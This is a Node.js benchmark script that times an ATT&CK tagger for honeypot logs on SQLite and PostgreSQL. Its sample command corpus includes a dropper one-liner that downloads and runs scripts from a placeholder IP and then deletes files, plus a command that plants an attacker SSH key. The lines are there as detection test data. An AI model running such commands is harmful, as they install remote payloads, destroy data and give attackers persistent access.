#!/usr/bin/env node
/**
 * TTP benchmark: how many events per second the ATT&CK tagger gets through,
 * on SQLite and on PostgreSQL, with baselines measured in the same run on the
 * same events: the bare rule matcher over the command strings (no database,
 * no log semantics), the in-memory tagger (log semantics + matcher + tag ids)
 * and the database read floor (reading the same rows by cursor in the same
 * batches, tagging nothing). Prints markdown tables.
 *
 *   npm run build && node --import tsx bench/ttp.js [--count 200000] [--reps 3] [--dialects sqlite,postgres] [--json FILE]
 *
 * Workloads: `commands` is `count` command events drawn from real honeypot
 * commands (each rule's examples and near-misses, benign admin commands,
 * long dropper one-liners); `mixed` is `count` lines of bench/lib/gen-logs.js
 * (brute force, commands, HTTP, SQL, Redis) through the real ingest path, so
 * the brute-force look-back is in it; `every-kind` is the same with about 6 % of
 * the lines (part of the SQL share and the connection lines) replaced by the
 * other kinds the tagger reads (Redis and elasticsearch commands, open-relay
 * mail, captured files, sniffer, DNS and TFTP events). PostgreSQL: DECNET_TEST_PG_URL when
 * set, else a throwaway local cluster (test/helpers/pg.js).
 */
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {performance} from 'node:perf_hooks'
import {parseArgs} from 'node:util'

import {sql} from 'kysely'

import {dialectOf, migrateToLatest, openDatabase} from '../dist/db/index.js'
import {ingest} from '../dist/ingest/ingest.js'
import {FailureMemory} from '../dist/workers/ttp/failure-memory.js'
import {Matcher} from '../dist/ttp/matcher.js'
import {loadRules} from '../dist/ttp/rule-loader.js'
import {TagWriter} from '../dist/workers/ttp/tag-writer.js'
import {tagLogs} from '../dist/ttp/tagger.js'
import {TTP_CURSOR, ttpDrain} from '../dist/workers/ttp/tick.js'
import {freshDatabase, skipReason} from '../test/helpers/databases.js'
import {writeLogFile} from './lib/gen-logs.js'
import {describeMachine, machineHeader} from './lib/machine.js'
import {markdownTable} from './lib/markdown-table.js'

const BATCH = 5000

const {values} = parseArgs({
  options: {
    count: {default: '200000', type: 'string'},
    dialects: {default: 'sqlite,postgres', type: 'string'},
    json: {type: 'string'},
    reps: {default: '3', type: 'string'},
  },
})
const count = positiveInteger(values.count, '--count')
const reps = positiveInteger(values.reps, '--reps')
const dialects = values.dialects.split(',').map((d) => d.trim())

const work = mkdtempSync(join(tmpdir(), 'decnet-bench-ttp-'))
process.on('exit', () => rmSync(work, {force: true, recursive: true}))

const {rules} = await loadRules()
const matcher = new Matcher(rules)

const BENIGN = [
  'cd /var/www', 'git status', 'sudo apt update', 'vim /etc/nginx/nginx.conf', 'tail -f /var/log/syslog', 'make -j4', 'echo hello',
  'cat README.md', 'docker compose up -d', 'systemctl status sshd', 'export EDITOR=vim', 'crontab -l', 'exit', 'enable', 'shell',
]
const LONG = [
  'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; curl -O http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 198.51.100.9; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *',
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
]

/** The command corpus: every rule's examples and near-misses, benign commands and long droppers, with their weights. */
function corpus() {
  const commands = rules.flatMap((rule) => [...rule.examples.match, ...rule.examples.noMatch])
  return [...commands, ...BENIGN, ...BENIGN, ...BENIGN, ...LONG]
}

/** `count` command events, seeded. */
function commandEvents() {
  const commands = corpus()
  let state = 7
  const rand = (n) => ((state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0) % n)
  const start = Date.UTC(2026, 10, 26, 12, 0, 0)
  return Array.from({length: count}, (_, i) => {
    const ip = `198.51.${rand(4)}.${rand(250) + 1}`
    const command = commands[rand(commands.length)]
    const timestamp = new Date(start + i * 250).toISOString()
    return {
      attacker_ip: ip,
      decky: `decky-${String(rand(24) + 1).padStart(2, '0')}`,
      event_type: 'command',
      fields: JSON.stringify({command, src_ip: ip}),
      msg: null,
      raw_line: `<13>1 ${timestamp} decky ssh - command [relay@55555 src_ip="${ip}"] -`,
      service: 'ssh',
      timestamp,
    }
  })
}

/** Baselines without a database: the bare matcher, then the in-memory tagger, over the same events. */
function memoryBaselines(rows) {
  const commands = rows.map((row) => JSON.parse(row.fields).command)
  const withIds = rows.map((row, i) => ({...row, id: i + 1}))
  const matcherMs = []
  const taggerMs = []
  for (const command of commands.slice(0, 20_000)) matcher.hits('command', command) // warm up the regular expressions
  for (let rep = 0; rep < reps; rep++) {
    let start = performance.now()
    for (const command of commands) matcher.hits('command', command)
    matcherMs.push(performance.now() - start)
    start = performance.now()
    for (let i = 0; i < withIds.length; i += BATCH) tagLogs(withIds.slice(i, i + BATCH), matcher)
    taggerMs.push(performance.now() - start)
  }

  return {matcherMs: median(matcherMs), taggerMs: median(taggerMs)}
}

/** The slowest rules over the command corpus, for rule authors. */
function ruleCosts(rows) {
  const commands = rows.slice(0, 50_000).map((row) => JSON.parse(row.fields).command)
  return rules
    .map((rule) => {
      const start = performance.now()
      for (const command of commands) rule.regex.exec(command)
      return {id: rule.id, usPerEvent: ((performance.now() - start) * 1000) / commands.length}
    })
    .sort((a, b) => b.usPerEvent - a.usPerEvent)
}

async function benchDialect(kind, workloads) {
  const results = []
  for (const workload of workloads) {
    const database = await freshDatabase(kind)
    const db = await openDatabase(database.url)
    try {
      await migrateToLatest(db)
      if (workload.rows) for (let i = 0; i < workload.rows.length; i += 2000) await db.insertInto('logs').values(workload.rows.slice(i, i + 2000)).execute()
      else await ingest(db, [workload.path], {batchSize: BATCH})
      if (dialectOf(db) === 'postgres') await sql`vacuum analyze`.execute(db)
      const events = await countOf(db, 'logs')
      const floor = []
      const full = []
      let tags = 0
      for (let rep = 0; rep < reps; rep++) {
        floor.push((await timed(() => readAll(db))).ms)
        await db.deleteFrom('ttp_tags').execute()
        await db.deleteFrom('auth_failures').execute()
        await db.updateTable('worker_state').set({cursor: 0}).where('worker', '=', TTP_CURSOR).execute()
        if (dialectOf(db) === 'postgres') await sql`vacuum analyze ttp_tags, auth_failures`.execute(db)
        const run = await timed(() => drain(db))
        full.push(run.ms)
        tags = run.result
      }

      process.stderr.write(`${kind} ${workload.name}: ${events} events in ${(median(full) / 1000).toFixed(2)} s\n`)
      results.push({events, floorMs: median(floor), fullMs: median(full), kind, tags, workload: workload.name})
    } finally {
      await db.destroy()
      await database.cleanup()
    }
  }

  return results
}

/** What the worker does: a drain with one failure memory and one tag writer (until caught up; a tick cut by its time budget is not). */
async function drain(db) {
  const {tags} = await ttpDrain(db, {batchSize: BATCH, matcher, memory: new FailureMemory(), writer: new TagWriter()})
  return tags
}

/** The floor: reading every row by cursor, in the tick's batches, and nothing else. */
async function readAll(db) {
  let cursor = 0
  for (;;) {
    const rows = await db
      .selectFrom('logs')
      .select(['id', 'timestamp', 'attacker_ip', 'event_type', 'fields', 'msg'])
      .where('id', '>', cursor)
      .orderBy('id')
      .limit(BATCH)
      .execute()
    if (rows.length < BATCH) return
    cursor = rows.at(-1).id
  }
}

async function countOf(db, table) {
  const row = await db.selectFrom(table).select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()
  return Number(row.n)
}

async function timed(fn) {
  const start = performance.now()
  const result = await fn()
  return {ms: performance.now() - start, result}
}

function median(list) {
  const sorted = [...list].sort((a, b) => a - b)
  const mid = Math.floor(sorted.length / 2)
  return sorted.length % 2 ? sorted[mid] : (sorted[mid - 1] + sorted[mid]) / 2
}

function positiveInteger(text, name) {
  const n = Number(text)
  if (!Number.isInteger(n) || n < 1) throw new Error(`Expected \`${name}\` to be a positive integer, got \`${text}\``)
  return n
}

const perSecond = (events, ms) => Math.round(events / (ms / 1000)).toLocaleString('en-US')
const times = (a, b) => `${(a / b).toFixed(2)}x`

function report(baseline, results, costs) {
  const rows = [
    ['(none)', 'commands', 'bare matcher (baseline)', count.toLocaleString('en-US'), '', (baseline.matcherMs / 1000).toFixed(2), perSecond(count, baseline.matcherMs), '1.00x', ''],
    ['(none)', 'commands', 'in-memory tagger', count.toLocaleString('en-US'), '', (baseline.taggerMs / 1000).toFixed(2), perSecond(count, baseline.taggerMs), times(baseline.taggerMs, baseline.matcherMs), ''],
    ...results.map((r) => [
      r.kind,
      r.workload,
      'ttp worker ticks',
      r.events.toLocaleString('en-US'),
      r.tags.toLocaleString('en-US'),
      (r.fullMs / 1000).toFixed(2),
      perSecond(r.events, r.fullMs),
      r.workload === 'commands' ? times(r.fullMs, baseline.matcherMs) : '',
      `${times(r.fullMs, r.floorMs)} (${perSecond(r.events, r.floorMs)}/s)`,
    ]),
  ]
  return [
    `## TTP benchmark (${new Date().toISOString().slice(0, 10)})`,
    '',
    ...machineHeader(describeMachine()),
    `- ${rules.length} rules; batch ${BATCH}; median of ${reps} runs; times include writing the tags and failed logins (empty tables each run)`,
    '',
    markdownTable(
      ['database', 'workload', 'what', 'events', 'tags', 'seconds', 'events/s', 'time vs bare matcher', 'time vs read floor (floor events/s)'],
      rows,
      ['l', 'l', 'l', 'r', 'r', 'r', 'r', 'r', 'r'],
    ),
    '',
    '### Slowest rules (bare regex over the command corpus)',
    '',
    markdownTable(['rule', 'µs per event'], costs.slice(0, 8).map((c) => [c.id, c.usPerEvent.toFixed(2)]), ['l', 'r']),
  ].join('\n')
}

const commands = commandEvents()
const mixedPath = join(work, 'mixed.log')
await writeLogFile(mixedPath, count, {junkRate: 0})
const everyKindPath = join(work, 'every-kind.log')
await writeLogFile(everyKindPath, count, {everyKind: true, junkRate: 0})
const workloads = [
  {name: 'commands', rows: commands},
  {name: 'mixed', path: mixedPath},
  {name: 'every-kind', path: everyKindPath},
]
const baseline = memoryBaselines(commands)
const costs = ruleCosts(commands)
const results = []
for (const kind of dialects) {
  const why = skipReason(kind)
  if (why) {
    process.stderr.write(`!!! skipping ${kind}: ${why}\n`)
    continue
  }

  results.push(...(await benchDialect(kind, workloads)))
}

console.log(report(baseline, results, costs))
if (values.json) writeFileSync(values.json, `${JSON.stringify({baseline, costs, results}, null, 2)}\n`)
